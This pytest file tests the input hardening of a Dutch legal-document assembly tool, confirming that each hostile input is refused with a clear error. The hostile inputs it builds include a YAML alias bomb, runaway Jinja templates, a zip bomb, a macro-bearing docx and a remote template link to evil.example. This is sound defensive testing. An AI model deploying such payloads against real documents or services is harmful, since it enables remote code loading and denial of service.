"""Hostile or careless input is a clear error (file, line, what), never a hang or a traceback,
and data values stay literal text in the documents."""

from __future__ import annotations

import io
import shutil
import subprocess
import sys
import time
import zipfile
from datetime import date
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner
from conftest import FIXTURES, ROOT, TWO_HOSPITALS
from docxedit import DOCUMENT, rewrite_docx

from aifi_legal import ClauseError, DataError, DocumentRef, LedgerError, load_project
from aifi_legal.assembly import jinja
from aifi_legal.cli import cli
from aifi_legal.inputs.portfolio import load_portfolio
from aifi_legal.register.ledger import Register, new_event

BASIC = FIXTURES / "clauses-basic"


def variant(tmp_path: Path, change) -> Path:
    """A copy of the fixture data with `change(data)` applied to its parsed form."""
    data = yaml.safe_load(TWO_HOSPITALS.read_text("utf-8"))
    change(data)
    path = tmp_path / "hospitals.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), "utf-8")
    return path


def problems(path: Path) -> list[str]:
    with pytest.raises(DataError) as caught:
        load_portfolio(path)
    return [str(p) for p in caught.value.problems]


# --- YAML that grows, nests or repeats -----------------------------------------------------


def test_an_alias_bomb_in_the_data_is_refused_at_once(tmp_path):
    levels = ['a0: &a0 ["x", "x", "x", "x", "x", "x", "x", "x", "x"]']
    levels += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 9)]
    path = tmp_path / "hospitals.yaml"
    path.write_text("\n".join(levels) + "\n")
    start = time.perf_counter()
    found = problems(path)
    assert time.perf_counter() - start < 2
    assert any("hospitals.yaml:2: YAML alias *a0 is not supported" in p for p in found)


def test_an_alias_in_a_clause_head_is_refused(tmp_path):
    library = tmp_path / "clauses"
    shutil.copytree(BASIC, library)
    clause = library / "40-doel.md"
    clause.write_text(clause.read_text().replace("order: 20", "order: 20\nx: &x [1]\ny: *x", 1))
    with pytest.raises(ClauseError) as caught:
        load_project(TWO_HOSPITALS, library, ROOT / "templates")
    assert any("alias" in p.message and p.file == clause for p in caught.value.problems)


def test_deep_nesting_and_huge_files_are_refused(tmp_path):
    path = tmp_path / "hospitals.yaml"
    path.write_text("consortium: " + "[" * 1000 + "]" * 1000 + "\n")
    assert any("nested more than" in p for p in problems(path))
    path.write_text("# " + "x" * 6_000_000 + "\n")
    assert any("larger than" in p for p in problems(path))


# --- clauses that run or grow without end ---------------------------------------------------


def library_with(tmp_path: Path, body: str) -> Path:
    library = tmp_path / "clauses"
    shutil.copytree(BASIC, library)
    clause = library / "40-doel.md"
    head, _, _ = clause.read_text().partition("\n---\n")
    clause.write_text(head + "\n---\n" + body + "\n")
    return library


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        (
            "{% for a in range(1000) %}{% for b in range(1000) %}{% for c in range(1000) %}"
            "{% endfor %}{% endfor %}{% endfor %}",
            "longer than",
        ),
        ("{{ range(10000000) | list | length }}", "range() of more than"),
        ("{{ 'x' * 1000000000 }}", "repeated text"),
        ("{{ 2 ** 100000000 }}", "exponent"),
    ],
)
def test_a_clause_that_would_hang_or_explode_is_an_error(tmp_path, monkeypatch, body, expected):
    monkeypatch.setattr(jinja, "MAX_RENDER_SECONDS", 0.5)
    project = load_project(TWO_HOSPITALS, library_with(tmp_path, body), ROOT / "templates")
    start = time.perf_counter()
    with pytest.raises(ClauseError) as caught:
        project.assemble("intentieverklaring", "linde-en-eik")
    assert time.perf_counter() - start < 5
    [problem] = caught.value.problems
    assert problem.file.name == "40-doel.md" and expected in problem.message


def test_an_empty_or_partly_unreadable_library_is_refused(tmp_path):
    empty = tmp_path / "leeg"
    empty.mkdir()
    with pytest.raises(ClauseError, match="1 problem"):
        load_project(TWO_HOSPITALS, empty, ROOT / "templates")
    library = tmp_path / "clauses"
    shutil.copytree(BASIC, library)
    (library / "99-kapot.md").mkdir()  # unreadable as a file
    with pytest.raises(ClauseError) as caught:
        load_project(TWO_HOSPITALS, library, ROOT / "templates")
    assert [p.file.name for p in caught.value.problems] == ["99-kapot.md"]
    # A library without clauses for a kind gives no empty document of that kind.
    project = load_project(TWO_HOSPITALS, BASIC, ROOT / "templates")
    with pytest.raises(ClauseError, match="no clause for the dpia"):
        project.assemble("dpia", "linde-en-eik")


# --- data values are literal text -----------------------------------------------------------


def test_markup_in_a_data_value_stays_literal(tmp_path):
    name = "Stichting **Vet** | Cel\n## Kop\n- punt !rood"

    def rename(data):
        data["hospitals"][0]["legal_name"] = name

    project = load_project(variant(tmp_path, rename), ROOT / "clauses", ROOT / "templates")
    hospital = project.portfolio.hospitals[0]
    document = project.assemble("intentieverklaring", hospital)
    runs = [
        run for c in document.clauses for b in c.blocks if hasattr(b, "runs") for run in b.runs
    ]
    literal = "Stichting **Vet** | Cel ## Kop - punt !rood"
    assert any(literal in run.text and not run.bold for run in runs)
    assert not any(run.bold and "Vet" in run.text for run in runs)
    headings = [c.heading for c in document.clauses if c.heading]
    assert not any("Kop" in h for h in headings)


# --- identities and names -------------------------------------------------------------------


def test_document_ids_cannot_collide():
    first = DocumentRef("verwerkersovereenkomst", "rijn", "1.0", "stede-cloud")
    second = DocumentRef("verwerkersovereenkomst", "rijn-stede", "1.0", "cloud")
    assert first.id != second.id


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        (lambda d: d["hospitals"][0].update(id="model"), "names a folder of the output"),
        (lambda d: d["hospitals"][0].update(id="archief"), "names a folder of the output"),
        (lambda d: d["hospitals"][0].update(id="x" * 41), "at most 40 characters"),
        (
            lambda d: d["groups"].append(
                {**d["groups"][0], "number": "0" + str(d["groups"][0]["number"])}
            ),
            "duplicate group number",
        ),
        (
            lambda d: d["hospitals"][0]["signatories"].append(
                {
                    **d["hospitals"][0]["signatories"][0],
                    "name": __import__("unicodedata").normalize(
                        "NFD", d["hospitals"][0]["signatories"][0]["name"].upper()
                    ),
                }
            ),
            "is listed twice as a signatory",
        ),
    ],
)
def test_identities_are_unique_and_reserved_names_refused(tmp_path, change, expected):
    assert any(expected in p for p in problems(variant(tmp_path, change)))


# --- returned documents that are not what they seem ----------------------------------------


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    out = tmp_path_factory.mktemp("out")
    project = load_project(
        TWO_HOSPITALS, ROOT / "clauses", ROOT / "templates", out / "signatures.jsonl"
    )
    project.build(out, hospitals=["linde-en-eik"], only="intentieverklaring")
    return project, out / "linde-en-eik" / "intentieverklaring.docx"


@pytest.mark.parametrize(
    ("extra", "rule"),
    [
        ({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"}, "integrity.macros"),
        (
            {
                "word/_rels/settings.xml.rels": b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
                b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                b'officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm"'
                b' TargetMode="External"/></Relationships>'
            },
            "integrity.external-template",
        ),
        ({"word/activeX/activeX1.xml": b"<x/>"}, "integrity.active-content"),
    ],
)
def test_macros_and_linked_templates_are_errors(built, tmp_path, extra, rule):
    project, docx = built
    report = project.check([rewrite_docx(docx, tmp_path / "x.docx", added=extra)])
    assert rule in {f.rule for f in report.errors}


def test_a_zip_bomb_is_refused_without_unpacking_it(built, tmp_path):
    project, docx = built
    bomb = tmp_path / "bom.docx"
    with zipfile.ZipFile(docx) as old, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            new.writestr(info.filename, old.read(info.filename))
        with new.open("word/media/nul.bin", "w") as handle:
            chunk = bytes(1 << 20)
            for _ in range(60):
                handle.write(chunk)
    assert bomb.stat().st_size < 2_000_000
    [finding] = project.check([bomb]).errors
    assert finding.rule == "integrity.not-docx" and "zip bomb" in finding.message


def test_a_damaged_part_is_a_finding_not_a_crash(built, tmp_path):
    _, docx = built
    data = bytearray(docx.read_bytes())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        info = archive.getinfo("word/document.xml")
    data[info.header_offset + 30 + len(info.filename) + 100] ^= 0xFF
    damaged = tmp_path / "kapot.docx"
    damaged.write_bytes(bytes(data))
    result = CliRunner().invoke(cli, ["check", "--data", str(TWO_HOSPITALS), str(damaged)])
    assert result.exit_code == 1, result.output
    assert "integrity.not-docx" in result.output and "damaged" in result.output


# --- the register ---------------------------------------------------------------------------


def test_a_register_that_is_not_a_file_is_refused(tmp_path):
    folder = tmp_path / "register"
    folder.mkdir()
    with pytest.raises(LedgerError, match="1 problem"):
        Register(folder).read()
    dangling = tmp_path / "weg.jsonl"
    dangling.symlink_to(tmp_path / "bestaat-niet.jsonl")
    with pytest.raises(LedgerError):
        Register(dangling).read()
    with pytest.raises(LedgerError):
        Register(Path("/dev/null")).append(
            [
                new_event(
                    event="sent",
                    hospital="h",
                    kind="dpia",
                    document="dpia.docx",
                    document_id="x",
                    version="1.0",
                    date="2027-01-01",
                )
            ]
        )
    result = CliRunner().invoke(
        cli, ["status", "--data", str(TWO_HOSPITALS), "--ledger", str(folder)]
    )
    assert result.exit_code == 2 and "not a regular file" in result.output


def test_register_lines_that_name_nothing_known_are_reported(tmp_path):
    register = tmp_path / "signatures.jsonl"
    project = load_project(TWO_HOSPITALS, ROOT / "clauses", ROOT / "templates", register)
    ivk = project.document("intentieverklaring", "linde-en-eik")
    common = {
        "kind": "intentieverklaring",
        "document": ivk.file_name,
        "version": "1.0",
        "date": "2027-01-20",
        "method": "paper",
    }
    signatory = project.signatories("intentieverklaring", "linde-en-eik")[0].name
    project.register.append(
        [
            new_event(
                event="signed",
                hospital="linde-en-eik",
                document_id=ivk.id,
                signatory=signatory,
                **common,
            ),
            new_event(
                event="signed",
                hospital="bestaat-niet",
                document_id=ivk.id,
                signatory=signatory,
                **common,
            ),
            new_event(
                event="signed",
                hospital="linde-en-eik",
                document_id="AIFI-IVK-X-V1.0",
                signatory=signatory,
                **common,
            ),
            new_event(
                event="signed",
                hospital="linde-en-eik",
                document_id=ivk.id,
                signatory="Een Vreemde",
                **common,
            ),
        ]
    )
    found = [(p.line, p.path) for p in project.register_problems()]
    assert found == [(2, "hospital"), (3, "document_id"), (4, "signatory")]


# --- exit codes -----------------------------------------------------------------------------


def test_a_closed_pipe_ends_quietly():
    result = subprocess.run(
        f"{sys.executable} -m aifi_legal clauses --quiet | head -1",
        shell=True,
        capture_output=True,
        text=True,
        cwd=ROOT,
        check=False,
    )
    assert result.stdout.count("\n") == 1
    assert result.stderr == ""


def test_init_onto_a_file_and_an_overlong_out_name_have_their_codes(tmp_path):
    target = tmp_path / "een-bestand"
    target.write_text("x")
    result = CliRunner().invoke(cli, ["init", str(target)])
    assert result.exit_code == 2 and "is a file" in result.output
    result = CliRunner().invoke(
        cli,
        [
            "build",
            "--data",
            str(TWO_HOSPITALS),
            "--out",
            str(tmp_path / ("o" * 300)),
            "--only",
            "dpia",
        ],
    )
    assert result.exit_code == 4 and "name too long" in result.output.lower()


@pytest.mark.parametrize("target", ["dangling link", "device"])
def test_an_output_folder_that_cannot_be_one_is_exit_4(tmp_path, target):
    out = Path("/dev/null")
    if target == "dangling link":
        out = tmp_path / "out"
        out.symlink_to(tmp_path / "verdwenen")
    result = CliRunner().invoke(
        cli, ["build", "--data", str(TWO_HOSPITALS), "--out", str(out), "--only", "dpia"]
    )
    assert result.exit_code == 4, result.output
    assert "Traceback" not in result.output
    assert (
        "which does not exist" if target == "dangling link" else "not a folder"
    ) in result.output


def test_a_name_typed_in_another_unicode_form_is_the_same_name(built, tmp_path, monkeypatch):
    """Word on a Mac may store 'ë' as 'e' + a combining diaeresis (NFD): same name, same check."""
    import unicodedata

    project, docx = built
    before = {(f.rule, f.message) for f in project.check([docx]).findings}
    nfd = tmp_path / "nfd.docx"

    def decomposed(data: bytes) -> bytes:
        changed = unicodedata.normalize("NFD", data.decode()).encode()
        assert changed != data
        return changed

    rewrite_docx(docx, nfd, changes={DOCUMENT: decomposed})
    assert {(f.rule, f.message) for f in project.check([nfd]).findings} == before
    out = docx.parent.parent
    monkeypatch.setattr("aifi_legal.register.record._today", lambda: date(2027, 6, 1))
    event = project.record(
        "linde-en-eik",
        "intentieverklaring",
        out=out,
        method="paper",
        signatory=unicodedata.normalize("NFD", "Chloë d'Ancona-Brûlé"),
        date="2027-04-08",
    )
    assert event.signatory == "Chloë d'Ancona-Brûlé"
